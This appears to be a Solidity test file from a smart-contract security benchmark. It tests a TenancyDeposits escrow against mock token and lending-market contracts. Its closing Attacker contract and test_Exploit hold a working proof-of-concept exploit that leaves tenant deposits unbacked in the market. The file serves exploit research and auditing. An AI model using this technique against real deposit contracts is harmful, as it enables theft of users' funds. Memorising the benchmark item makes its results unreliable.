// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./TenancyDeposits.sol";
import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";

// assay-canary-b3205589-c0b8-49a6-98d8-cdf2abb04aab

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Money is ERC20("Money", "MON") {
    address private maker = msg.sender;

    function mint(address a, uint256 n) external {
        require(msg.sender == maker, "maker");
        _mint(a, n);
    }
}

// Keeps tokens up to a cap, and answers with a code where it does not.
contract Market {
    Money private money;
    address private maker = msg.sender;
    uint256 public total;
    uint256 public cap = 10_000e18;
    bool public paused;
    mapping(address => uint256) public balanceOfUnderlying;

    constructor(Money money_) {
        money = money_;
    }

    function mint(uint256 a) external returns (uint256) {
        if (paused) return 3;
        if (total + a > cap) return 9;
        money.transferFrom(msg.sender, address(this), a);
        total += a;
        balanceOfUnderlying[msg.sender] += a;
        return 0;
    }

    function redeemUnderlying(uint256 a) external returns (uint256) {
        if (paused) return 3;
        if (a > balanceOfUnderlying[msg.sender]) return 14;
        total -= a;
        balanceOfUnderlying[msg.sender] -= a;
        money.transfer(msg.sender, a);
        return 0;
    }

    function pause(bool on) external {
        require(msg.sender == maker, "maker");
        paused = on;
    }

    function earn(address to, uint256 a) external {
        require(msg.sender == maker, "maker");
        money.transferFrom(msg.sender, address(this), a);
        total += a;
        balanceOfUnderlying[to] += a;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant LEA = address(0x1EA);
    address private constant FUND = address(0xF00D);
    uint256 private constant START = 1_700_000_000;
    uint64 private constant END = uint64(START + 365 days);

    Money private money;
    Market private market;
    TenancyDeposits private deposits;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        money = new Money();
        market = new Market(money);
        deposits = new TenancyDeposits(money, IMarket(address(market)), FUND);
        fill(ANA);
        fill(BEN);
        vm.startPrank(LEA);
        deposits.open(ANA, 3_000e18, END);
        deposits.open(BEN, 2_000e18, END);
        deposits.open(ANA, 500e18, END);
        vm.stopPrank();
        vm.prank(ANA);
        deposits.pay(0);
        vm.prank(BEN);
        deposits.pay(1);
        mallory = new Attacker(deposits, money);
        money.mint(address(mallory), 6_000e18);
    }

    function fill(address who) private {
        money.mint(who, 5_000e18);
        vm.prank(who);
        money.approve(address(deposits), type(uint256).max);
    }

    function test_Regular() public {
        vm.prank(ANA);
        deposits.pay(2);
        require(deposits.sum() == 5_500e18 && market.total() == 5_500e18, "paid");
        money.mint(address(this), 100e18);
        money.approve(address(market), 100e18);
        market.earn(address(deposits), 100e18);
        deposits.skim();
        require(money.balanceOf(FUND) == 100e18 && market.total() == 5_500e18, "interest");
        deposits.skim();
        require(money.balanceOf(FUND) == 100e18, "no more interest");
        vm.warp(END);
        vm.startPrank(LEA);
        deposits.ask(0, 1_000e18);
        deposits.ask(1, 2_000e18);
        vm.stopPrank();
        vm.prank(ANA);
        deposits.agree(0);
        require(money.balanceOf(ANA) == 3_500e18 && money.balanceOf(LEA) == 1_000e18, "agreed");
        deposits.rule(1, 500e18);
        require(money.balanceOf(BEN) == 4_500e18 && money.balanceOf(LEA) == 1_500e18, "ruled");
        vm.warp(END + 14 days + 1);
        vm.prank(ANA);
        deposits.free(2);
        require(money.balanceOf(ANA) == 4_000e18 && deposits.sum() == 0, "free");
        vm.prank(LEA);
        uint256 i = deposits.open(ANA, 4_000e18, END + 365 days);
        vm.prank(ANA);
        deposits.pay(i);
        vm.prank(LEA);
        deposits.free(i);
        require(money.balanceOf(ANA) == 4_000e18 && market.total() == 0, "free early");
        deposits.transferOwnership(ANA);
        vm.prank(ANA);
        deposits.renounceOwnership();
    }

    function test_RefusesOpenings() public {
        vm.expectRevert(TenancyDeposits.Bad.selector);
        new TenancyDeposits(money, IMarket(address(market)), address(0));
        vm.expectRevert(TenancyDeposits.Bad.selector);
        deposits.open(address(0), 1, END);
        vm.expectRevert(TenancyDeposits.Bad.selector);
        deposits.open(ANA, 0, END);
        vm.expectRevert(TenancyDeposits.Late.selector);
        deposits.open(ANA, 1, uint64(START));
    }

    function test_RefusesPayments() public {
        vm.startPrank(BEN);
        vm.expectRevert(TenancyDeposits.Who.selector);
        deposits.pay(2);
        vm.expectRevert(TenancyDeposits.State.selector);
        deposits.pay(1);
        vm.stopPrank();
        vm.warp(END);
        vm.prank(ANA);
        vm.expectRevert(TenancyDeposits.Late.selector);
        deposits.pay(2);
    }

    function test_RefusesAsking() public {
        vm.prank(ANA);
        vm.expectRevert(TenancyDeposits.Who.selector);
        deposits.ask(0, 1);
        vm.startPrank(LEA);
        vm.expectRevert(TenancyDeposits.State.selector);
        deposits.ask(2, 1);
        vm.warp(END - 1);
        vm.expectRevert(TenancyDeposits.Early.selector);
        deposits.ask(0, 1);
        vm.warp(END);
        vm.expectRevert(TenancyDeposits.Bad.selector);
        deposits.ask(0, 0);
        vm.expectRevert(TenancyDeposits.Bad.selector);
        deposits.ask(0, 3_000e18 + 1);
        vm.warp(END + 14 days + 1);
        vm.expectRevert(TenancyDeposits.Late.selector);
        deposits.ask(0, 1);
        vm.stopPrank();
    }

    function test_RefusesEndings() public {
        vm.prank(BEN);
        vm.expectRevert(TenancyDeposits.Who.selector);
        deposits.agree(0);
        vm.prank(ANA);
        vm.expectRevert(TenancyDeposits.State.selector);
        deposits.agree(0);
        vm.expectRevert(TenancyDeposits.State.selector);
        deposits.rule(0, 0);
        vm.prank(LEA);
        vm.expectRevert(TenancyDeposits.State.selector);
        deposits.free(2);
        vm.warp(END + 14 days);
        vm.prank(ANA);
        vm.expectRevert(TenancyDeposits.Who.selector);
        deposits.free(0);
        vm.prank(LEA);
        deposits.ask(0, 10);
        vm.prank(LEA);
        vm.expectRevert("Ownable: caller is not the owner");
        deposits.rule(0, 10);
        vm.expectRevert(TenancyDeposits.Bad.selector);
        deposits.rule(0, 11);
        vm.warp(END + 14 days + 1);
        vm.prank(BEN);
        vm.expectRevert(TenancyDeposits.Who.selector);
        deposits.free(0);
    }

    function test_RefusesWhilePaused() public {
        money.mint(address(this), 100e18);
        money.approve(address(market), 100e18);
        market.earn(address(deposits), 100e18);
        market.pause(true);
        vm.expectRevert(TenancyDeposits.Off.selector);
        deposits.skim();
        vm.prank(LEA);
        vm.expectRevert(TenancyDeposits.Off.selector);
        deposits.free(0);
    }

    // What the market can still pay to the two tenants.
    function covered() public view returns (uint256) {
        uint256 there = market.balanceOfUnderlying(address(deposits));
        return there < 5_000e18 ? there : 5_000e18;
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        require(covered() == 5_000e18, "at first");
        exploit();
        require(covered() == 0 && money.balanceOf(address(mallory)) == 6_000e18, "covered");
    }

    function target() public view returns (address) {
        return address(deposits);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    TenancyDeposits private deposits;
    Money private money;

    constructor(TenancyDeposits d, Money m) {
        deposits = d;
        money = m;
    }

    function run() external {
        money.approve(address(deposits), 5_000e18 + 1);
        Market market = Market(address(deposits.m()));
        money.approve(address(market), 1e18);
        market.mint(1e18);
        uint256 i = deposits.open(address(this), 5_000e18, uint64(block.timestamp + 1 days));
        deposits.pay(i);
        deposits.skim();
        deposits.free(i);
        market.redeemUnderlying(1e18);
    }
}
